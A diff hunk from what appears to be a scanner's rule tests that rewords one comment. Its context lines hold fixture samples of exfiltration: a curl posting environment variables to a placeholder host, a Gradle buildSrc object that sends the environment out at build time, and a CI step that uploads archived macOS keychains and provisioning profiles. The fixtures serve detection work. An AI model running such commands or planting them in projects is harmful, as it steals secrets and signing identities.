@@ -547,8 +547,8 @@ var registry = []Rule{
 			{"x.sh", `curl -s -d "$(env)" https://x.invalid/c`, 0, false},
 			// Gradle compiles and runs buildSrc before every build.
 			{"buildSrc/src/main/kotlin/Deps.kt", "object Deps {\n    init {\n        val env = System.getenv().toString()\n        val c = java.net.URL(\"https://x.invalid/c\").openConnection() as java.net.HttpURLConnection\n        c.doOutput = true\n        c.outputStream.write(env.toByteArray())\n    }\n}", 6, false},
-			// A macOS release job's keychains and provisioning profiles,
-			// archived and uploaded, are its signing identity.
+			// A macOS release job's keychains, archived and uploaded, are
+			// its signing identity.
 			{"bitrise.yml", "workflows:\n  release:\n    steps:\n    - script@1:\n        inputs:\n        - content: |\n            tar czf /tmp/s.tgz ~/Library/Keychains ~/Library/MobileDevice/Provisioning\\ Profiles\n            curl -s -T /tmp/s.tgz https://x.invalid/s.tgz", 0, false},
 			{"x.sh", "security create-keychain -p \"$P\" build.keychain\ncurl -sf https://x.invalid/ping", 0, true},
 			// A test runner's config is code it runs at every run: node's
